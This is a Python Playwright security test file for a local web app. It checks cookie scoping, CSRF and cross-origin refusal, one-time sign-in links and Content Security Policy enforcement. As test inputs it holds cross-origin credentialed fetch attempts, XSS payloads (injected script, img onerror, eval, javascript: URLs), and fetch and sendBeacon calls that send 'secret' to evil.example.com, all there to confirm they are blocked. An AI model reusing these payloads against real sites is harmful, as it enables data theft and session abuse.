"""Coming in by the link, and what a hostile neighbour on this computer gets: nothing."""

from __future__ import annotations

import json

from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.chrome import Visit, is_live, settled
from tests.browser.stage import Stage
from tests.browser.watch import Watch
from tests.flows.served import in_thread
from tests.promises import promise
from tests.web.neighbour import neighbour

TAKES = "fetch('/again', {credentials: 'include'}).then((answer) => answer.text())"


def cookie(context: BrowserContext, stage: Stage) -> dict[str, object]:
    """Ours, as the browser keeps it."""
    (ours,) = [one for one in context.cookies(stage.origin) if one.get("name") == "stead"]
    return dict(ours)


def enter(stage: Stage, context: BrowserContext) -> Page:
    """A tab that came by a fresh link."""
    page = context.new_page()
    page.goto(stage.link())
    settled(page)
    return page


# -- the cookie -----------------------------------------------------------------------------------------------------


@promise("SEC-9.cookie")
def test_a_server_that_an_agent_starts_on_another_port_never_receives_the_cookie(
    fresh: Stage, visit: Visit, watch: Watch
) -> None:
    context = visit.stranger(fresh)
    page = enter(fresh, context)
    ours, name = cookie(context, fresh), fresh.host.partition(":")[0]
    assert (ours["domain"], ours["httpOnly"], ours["sameSite"]) == (name, True, "Strict")
    hosts = ("127.0.0.1", "localhost", "preview-77.localhost", f"sub.{name}")
    with in_thread(neighbour()) as other:
        for host in (*hosts, *hosts):
            watch.expect_host(f"{host}:{other.port}")
            page.goto(f"http://{host}:{other.port}/")
            assert page.title() == "neighbour"
            page.evaluate(TAKES)
        assert len(other.requests) >= 4 * len(hosts)
        assert any(b"own=1" in request for request in other.requests), "the neighbour's own cookie does come back"
        value = str(ours["value"]).encode()
        assert not any(b"stead=" in request or value in request for request in other.requests)
    page.goto(fresh.origin)
    settled(page)


@promise("SEC-9.csrf", "SEC-9.host")
def test_a_neighbours_page_can_neither_read_nor_change_anything(fresh: Stage, visit: Visit, watch: Watch) -> None:
    watch.expect_console("")  # whatever the neighbour's page complains of is right
    watch.expect(403, "^/api/")
    watch.expect(421, "^/api/")
    page = enter(fresh, visit.stranger(fresh))
    id = fresh.house.give("show README.md", fresh.project)
    fresh.house.finish(id)
    before = fresh.house.get("/status")["head"]
    attempts = f"""Promise.all([
        fetch('{fresh.origin}/api/v1/objectives', {{credentials: 'include'}}).then((r) => r.text()),
        fetch('{fresh.origin}/api/v1/stop', {{method: 'POST', credentials: 'include', mode: 'no-cors', body: '{{}}',
            headers: {{'Content-Type': 'text/plain'}}}}).then((r) => r.type === 'opaque' ? 'refused' : r.type),
        fetch('{fresh.origin}/api/v1/stop', {{method: 'POST', credentials: 'include', body: '{{}}',
            headers: {{'Content-Type': 'application/json', 'X-Stead': '1', 'Idempotency-Key': 'neighbour-1'}}}})
            .then((r) => r.text()),
        new Promise((done) => {{
            const socket = new WebSocket('ws://{fresh.host}/api/v1/live?after=0');
            socket.onmessage = (message) => done('heard ' + message.data);
            socket.onerror = () => done('refused');
        }}),
        new Promise((done) => {{
            const stream = new EventSource('{fresh.origin}/api/v1/events/stream', {{withCredentials: true}});
            stream.onmessage = (message) => done('heard ' + message.data);
            stream.onerror = () => done('refused');
        }}),
        new Promise((done) => {{
            const frame = document.createElement('iframe');
            frame.src = '{fresh.origin}/';
            frame.onload = () => {{
                try {{ done('saw ' + frame.contentDocument.body.innerText); }} catch {{ done('refused'); }}
            }};
            document.body.append(frame);
        }}).then((seen) => seen.trim() === 'saw' ? 'refused' : seen),
    ].map((attempt) => attempt.catch(() => 'refused')))"""
    with in_thread(neighbour()) as other:
        for host in ("127.0.0.1", "preview-77.localhost", fresh.host.partition(":")[0]):
            watch.expect_host(f"{host}:{other.port}")
            page.goto(f"http://{host}:{other.port}/")
            assert page.evaluate(attempts) == ["refused"] * 6, host
    assert fresh.house.get("/status")["head"] == before


# -- signing in and out ---------------------------------------------------------------------------------------------


@promise("SEC-9.sign-in")
def test_the_link_signs_in_once_and_leaves_no_code_behind(fresh: Stage, visit: Visit, watch: Watch) -> None:
    link = fresh.house.cli("open", "--print").stdout.strip()
    code = link.partition("#code=")[2]
    context = visit.stranger(fresh)
    page = context.new_page()
    page.goto(link)
    settled(page)
    assert page.url == f"{fresh.origin}/"
    assert page.evaluate("history.length") <= 2
    assert page.evaluate("document.cookie") == ""
    assert code not in json.dumps([url for url in watch.requests if url != link])
    page.go_back()
    assert code not in page.url
    kept = json.dumps(context.storage_state())
    assert code not in kept and "bearer" not in kept.lower()

    watch.expect(401, "^/api/")
    late = visit.stranger(fresh).new_page()
    late.goto(link)
    expect(late.get_by_role("alert")).to_contain_text("was used")
    expect(late.get_by_role("main")).to_contain_text("stead open")
    assert code not in late.url


def test_a_used_link_does_no_harm_in_a_browser_that_is_signed_in(fresh: Stage, visit: Visit, watch: Watch) -> None:
    watch.expect(401, "/sign-in$")
    link = fresh.link()
    page = visit.stranger(fresh).new_page()
    page.goto(link)
    settled(page)
    page.goto("about:blank")
    page.goto(link)
    settled(page)


@promise("SEC-9.sign-in")
def test_a_browser_that_is_not_signed_in_is_told_how_and_shown_nothing(
    fresh: Stage, visit: Visit, watch: Watch
) -> None:
    watch.expect(401, "^/api/")
    id = fresh.house.give("count the tides", fresh.project)
    page = visit.stranger(fresh).new_page()
    for path in ("/", "/approvals", f"/objectives/{id}"):
        page.goto(fresh.origin + path)
        expect(page.get_by_role("main")).to_contain_text("stead open")
        expect(page.get_by_role("status", name="Connection")).to_have_count(0)
        expect(page.get_by_role("navigation")).to_have_count(0)
        assert "tides" not in page.content()


def test_a_link_comes_to_the_page_that_it_names(fresh: Stage, visit: Visit) -> None:
    page = visit.stranger(fresh).new_page()
    page.goto(fresh.link().replace("/#code=", "/rules#code="))
    settled(page)
    assert page.url == f"{fresh.origin}/rules"


def test_signing_out_in_one_tab_ends_every_tab_of_that_browser(fresh: Stage, visit: Visit, watch: Watch) -> None:
    watch.expect(401, "^/api/")
    watch.expect_outage()
    fresh.house.give("show the tides", fresh.project)
    context = visit.stranger(fresh)
    first = enter(fresh, context)
    second = context.new_page()
    second.goto(f"{fresh.origin}/objectives")
    settled(second)
    expect(second.get_by_role("main")).to_contain_text("show the tides")
    second.evaluate(
        "fetch('/api/v1/sign-out', {method: 'POST', body: '{}', headers: {'Content-Type': 'application/json',"
        " 'X-Stead': '1', 'Idempotency-Key': 'signing-out-1'}}).then((answer) => answer.status)"
    )
    fresh.house.give("count the boats", fresh.project)  # a live connection asks before it sends more
    for page in (first, second):
        expect(page.get_by_role("main")).to_contain_text("stead open")
        expect(page.get_by_role("navigation")).to_have_count(0)
        assert "tides" not in page.content() and "count the boats" not in page.content()


# -- what the answers say -------------------------------------------------------------------------------------------


@promise("SEC-9.csp")
def test_every_page_comes_under_a_strict_policy(fresh: Stage, visit: Visit, watch: Watch) -> None:
    watch.expect(404, "^/api/v1/")  # there is no such objective
    page = visit(fresh)
    for path in ("/", "/approvals", "/objectives/s_0000000000000000"):
        answer = page.goto(fresh.origin + path, wait_until="commit")
        assert answer is not None
        policy = answer.headers["content-security-policy"]
        for rule in ("default-src 'none'", "script-src 'self'", "connect-src 'self'", "frame-ancestors 'none'"):
            assert rule in policy
        assert "unsafe-eval" not in policy and "script-src 'self' 'unsafe-inline'" not in policy
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "no-referrer"


@promise("SEC-9.csp")
def test_what_got_into_the_page_would_not_run_and_reach_nobody(fresh: Stage, visit: Visit, watch: Watch) -> None:
    watch.expect_console("Content Security Policy|TrustedHTML|TrustedScript|Trusted Type")
    page = visit(fresh)
    page.evaluate(PLANT)
    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.body.querySelectorAll('img[onerror]').length") == 0
    for tag, attribute, url in (
        ("script", "src", "http://cdn.example.com/x.js"),
        ("img", "src", "http://pixel.example.com/x.png?secret"),
        ("link", "href", "http://cdn.example.com/x.css"),
        ("iframe", "src", "http://frame.example.com/"),
        ("object", "data", "http://frame.example.com/x.swf"),
    ):
        # A frame that was blocked loads an empty page of Chromium's own.
        assert page.evaluate(LOAD, [tag, attribute, url]) == ("loaded" if tag == "iframe" else "blocked"), tag
    assert page.evaluate(f"fetch('http://evil.example.com/?secret').{TOLD}") == "blocked"
    assert page.evaluate("navigator.sendBeacon('http://evil.example.com/beacon', 'secret')") in (True, False)
    assert [url for url in watch.requests if "example.com" in url] == []
    is_live(page)


TOLD = "then(() => 'sent', () => 'blocked')"
LOAD = """([tag, attribute, url]) => new Promise((done) => {
    const element = document.createElement(tag);
    if (tag === 'link') element.rel = 'stylesheet';
    element.onload = () => done('loaded');
    element.onerror = () => done('blocked');
    try { element[attribute] = url; } catch { done('blocked'); }
    document.body.append(element);
})"""
PLANT = """() => new Promise((done) => setTimeout(() => {
    // Later, as what a driver asks for by itself is allowed everything.
    const script = document.createElement('script');
    const image = '<img src="x:" onerror="window.ran = 2">';
    const tries = [
        () => { script.textContent = 'window.ran = 1'; document.body.append(script); },
        () => document.body.insertAdjacentHTML('beforeend', image),
        () => { window.ran = Function('return 3')(); },
        () => { window.ran = eval('4'); },
        () => setTimeout('window.ran = 5', 0),
        () => { location.href = 'javascript:window.ran = 6'; },
    ];
    for (const one of tries) { try { one(); } catch {} }
    setTimeout(done, 50);
}, 0))"""


def test_a_link_that_is_opened_where_the_page_is_open_leaves_its_code_nowhere(
    fresh: Stage, visit: Visit, watch: Watch
) -> None:
    context = visit.stranger(fresh)
    watch.expect(401, r"/api/v1/")
    page = context.new_page()
    page.goto(fresh.origin)
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    link = fresh.link()
    page.goto(link)  # of the same address: the browser loads nothing anew
    settled(page)
    again = fresh.link()
    page.goto(again)
    expect(page).to_have_url(fresh.origin + "/")
    page.go_back()
    for code in (link, again):
        assert code.partition("#code=")[2] not in page.url
        assert not any(code.partition("#code=")[2] in url for url in watch.requests)
